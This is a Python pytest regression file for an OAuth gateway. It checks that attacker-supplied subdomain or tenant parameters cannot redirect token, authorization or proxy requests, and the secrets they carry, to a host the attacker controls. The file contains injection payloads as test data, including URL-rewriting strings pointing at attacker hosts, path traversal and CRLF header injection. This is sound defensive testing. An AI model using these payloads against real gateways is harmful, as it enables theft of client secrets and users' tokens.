"""Issue 14 #1: a browser holding only the public key cannot make the gateway send the client secret, a
user's tokens or the app's proxied data to a host it names.

``params[x]`` fills template URLs; before the fix ``params[subdomain]=attacker.example/x%3F`` turned
``https://${subdomain}.zendesk.com/oauth/tokens`` into ``https://attacker.example/x?.zendesk.com/oauth/tokens``.
Here the attacker's host is a real server on 127.0.0.2 (``AttackerHost``, counting every TCP connection)
and the gateway may reach all of 127.0.0.0/8, as it could reach attacker.example on the internet.
"""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest

from ..support.attacker_host import AttackerHost, attacker_host
from ..support.oauth_provider import OAuthProvider
from .flow_helpers import get_connection, run_popup
from .gateway_app import Gateway, StartGateway, create_integration, providers_yaml

pytestmark = [pytest.mark.broker, pytest.mark.mongo]


def _near(provider: OAuthProvider) -> str:
    """A template origin with a host suffix the test can reach: ``params[subdomain]=127`` makes 127.0.0.1."""
    return f"http://${{connectionConfig.subdomain}}.0.0.1:{provider.port}"


def _catalog(provider: OAuthProvider) -> dict[str, Any]:
    near = _near(provider)
    desk = {
        "auth_mode": "OAUTH2",
        "authorization_url": f"{near}/authorize",
        "token_url": f"{near}/token",
        "revocation_url": f"{near}/revoke",
        "proxy": {"base_url": near},
        "connection_config": {"subdomain": {"type": "string"}},  # no pattern: the default charset applies
    }
    return {
        "loop-desk": desk,
        "loop-desk-callback": {**desk, "redirect_uri_metadata": ["subdomain"]},
        "loop-tenant": provider.template(
            authorization_url=f"{provider.base}/t/${{connectionConfig.tenant}}/authorize",
            token_url=f"{provider.base}/t/${{connectionConfig.tenant}}/token",
            connection_config={"tenant": {"type": "string"}},
        ),
        "loop-headers": {
            "auth_mode": "API_KEY",
            "proxy": {
                "base_url": provider.base,
                "headers": {"authorization": "Bearer ${apiKey}", "x-partner-id": "${connectionConfig.partnerId}"},
                "verification": {"method": "GET", "endpoint": "/api/me"},
            },
            "connection_config": {"partnerId": {"type": "string"}},
        },
    }


@dataclass
class World:
    gw: Gateway
    provider: OAuthProvider
    attacker: AttackerHost  # plain HTTP, for the templates with an http origin
    tls_attacker: AttackerHost  # HTTPS with its own certificate, for the built-in https templates

    @property
    def attacker_connections(self) -> int:
        return self.attacker.connections + self.tls_attacker.connections


@pytest.fixture
async def world(provider: OAuthProvider, tmp_path: Path, start_gateway: StartGateway) -> AsyncIterator[World]:
    gateway = start_gateway(
        providers_file=providers_yaml(tmp_path, _catalog(provider)),
        egress_allowlist="127.0.0.0/8",  # the attacker's host is reachable, as a public one would be
        public_key_connect="allowed",  # the attack needs only the public key
        provider_timeout_seconds=2.0,
    )
    async with attacker_host() as attacker, attacker_host(tls=True) as tls_attacker, gateway as gw:
        for key, name in [
            ("desk", "loop-desk"),
            ("desk-cb", "loop-desk-callback"),
            ("tenant", "loop-tenant"),
            ("zendesk", "zendesk"),  # the built-in template of the issue
        ]:
            await create_integration(gw, name, key, **provider.integration_fields)
        await create_integration(gw, "loop-headers", "headers")
        yield World(gw, provider, attacker, tls_attacker)


async def _attack(gw: Gateway, key: str, connection_id: str, value: str) -> tuple[int, str]:
    """``/oauth/connect`` with ``params[subdomain|tenant]=value``; if the gateway sends the browser on,
    the callback follows as the attacker's page would make it (the state is in the URL it was sent to)."""
    name = "tenant" if key == "tenant" else "subdomain"
    resp = await gw.client.get(
        f"/oauth/connect/{key}?public_key={gw.public_key}&connection_id={connection_id}"
        f"&params[{name}]={quote(value, safe='')}",
        allow_redirects=False,
    )
    text = await resp.text()
    if resp.status == 302:
        state = re.search(r"[?&]state=([^&#]+)", resp.headers["Location"])
        assert state is not None, resp.headers["Location"]
        callback = await gw.client.get(f"/oauth/callback?code=stolen-code&state={state[1]}", allow_redirects=False)
        await callback.read()
    return resp.status, text


async def test_connect_params_cannot_move_authorization_or_token_urls(world: World) -> None:
    plain, tls = world.attacker.port, world.tls_attacker.port
    attacks = {
        "desk": [
            f"127.0.0.2:{plain}/x?",  # the payload: the rest of the template becomes a query
            f"127.0.0.2:{plain}#",
            f"u@127.0.0.2:{plain}/",
            f"127.0.0.2:{plain}\\x",
            f"127.0.0.2%3A{plain}%2Fx%3F",  # encoded once more
            "127.0.0.2:1/..",
            "acme\r\nX-Injected: 1",
        ],
        "zendesk": [f"127.0.0.2:{tls}/x?", f"127.0.0.2:{tls}#", f"u@127.0.0.2:{tls}/", "acme.evil.example/"],
        "tenant": ["..", "../../evil", "a/b", "a%2Fb", "a?b", "a#b"],
    }
    answers: dict[str, tuple[int, bool]] = {}
    for key, values in attacks.items():
        for index, value in enumerate(values):
            status, page = await _attack(world.gw, key, f"victim-{key}-{index}", value)
            answers[f"{key}: {value!r}"] = (status, "url_param_err" in page)
    assert answers == dict.fromkeys(answers, (400, True))
    assert world.attacker_connections == 0, world.attacker.everything_received
    assert world.provider.token_requests == []  # nothing went to a path the template does not name either


async def test_a_legit_value_completes_the_flow(world: World) -> None:
    result = await run_popup(world.gw, "desk", "connection_id=legit&params[subdomain]=127")
    assert result.status == 200, result.html
    assert result.frame["message_type"] == "success"
    assert result.provider_redirect is not None
    assert result.provider_redirect.startswith(f"http://127.0.0.1:{world.provider.port}/authorize?")
    assert len(world.provider.token_requests) == 1
    connection = await get_connection(world.gw, "legit", "desk")
    assert connection["connection_config"]["subdomain"] == "127"
    assert world.attacker_connections == 0


async def test_the_callback_query_never_steers_the_token_url(world: World) -> None:
    gw, provider = world.gw, world.provider
    resp = await gw.client.get(
        f"/oauth/connect/desk-cb?public_key={gw.public_key}&connection_id=cb-1&params[subdomain]=127",
        allow_redirects=False,
    )
    assert resp.status == 302, await resp.text()
    async with gw.client.session.get(resp.headers["Location"], allow_redirects=False) as authorized:
        back = urlsplit(authorized.headers["Location"])
    # The template declares subdomain as callback metadata; the browser rewrites it on the way back.
    stolen = quote(f"127.0.0.2:{world.attacker.port}/x?", safe="")
    resp = await gw.client.get(f"{back.path}?{back.query}&subdomain={stolen}", allow_redirects=False)
    assert resp.status == 200, await resp.text()
    assert world.attacker_connections == 0, world.attacker.everything_received
    assert len(provider.token_requests) == 1
    connection = await get_connection(gw, "cb-1", "desk-cb")
    assert connection["connection_config"]["subdomain"] == "127"  # and no later refresh goes elsewhere


async def test_stored_values_fail_closed_at_proxy_refresh_and_revocation(world: World) -> None:
    """A value stored before the checks existed (imported here) steers nothing: every later use refuses it."""
    gw = world.gw
    evil = {"subdomain": f"127.0.0.2:{world.attacker.port}/x?"}
    for connection_id, expiry in [
        ("stored-evil", {"no_expiration": True}),
        ("stored-evil-expired", {"expires_at": "2000-01-01T00:00:00Z"}),
    ]:
        body = {"connection_id": connection_id, "provider_config_key": "desk", "connection_config": evil, **expiry}
        body |= {"access_token": "at-victim", "refresh_token": "rt-victim"}
        resp = await gw.client.post("/connection", json=body, headers=gw.auth)
        assert resp.status == 201, await resp.text()

    resp = await gw.client.get(
        "/proxy/api/me", headers={**gw.auth, "Connection-Id": "stored-evil", "Provider-Config-Key": "desk"}
    )
    assert resp.status == 400, await resp.text()
    assert (await resp.json())["error"]["code"] == "invalid_connection_config"

    resp = await gw.client.get("/connection/stored-evil-expired?provider_config_key=desk", headers=gw.auth)
    assert 400 <= resp.status < 500, await resp.text()
    assert "connectionConfig.subdomain" in (await resp.json())["error"]["message"]

    for connection_id in ("stored-evil", "stored-evil-expired"):
        resp = await gw.client.delete(f"/connection/{connection_id}?provider_config_key=desk", headers=gw.auth)
        assert resp.status < 500, await resp.text()
    assert world.attacker_connections == 0, world.attacker.everything_received
    assert world.provider.token_requests == []


async def test_header_values_with_control_characters_are_refused(world: World) -> None:
    gw = world.gw
    crlf = quote("acme\r\nX-Injected: 1", safe="")
    resp = await gw.client.post(
        f"/api-auth/api-key/headers?public_key={gw.public_key}&connection_id=h-1&params[partnerId]={crlf}",
        json={"apiKey": "key"},
    )
    assert resp.status == 400, await resp.text()
    assert (await resp.json())["error"]["code"] == "invalid_connection_config"

    resp = await gw.client.post(
        f"/api-auth/api-key/headers?public_key={gw.public_key}&connection_id=h-2&params[partnerId]=acme",
        json={"apiKey": "key\r\nX-Injected: 1"},
    )
    assert resp.status == 400, await resp.text()
    assert "the API key" in (await resp.json())["error"]["message"]

    body = {"connection_id": "h-3", "provider_config_key": "headers", "api_key": "key"}
    body["connection_config"] = {"partnerId": "acme\r\nX-Injected: 1"}
    resp = await gw.client.post("/connection", json=body, headers=gw.auth)
    assert resp.status == 201, await resp.text()
    resp = await gw.client.get(
        "/proxy/api/me", headers={**gw.auth, "Connection-Id": "h-3", "Provider-Config-Key": "headers"}
    )
    assert resp.status == 400, await resp.text()
    assert (await resp.json())["error"]["code"] == "invalid_connection_config"
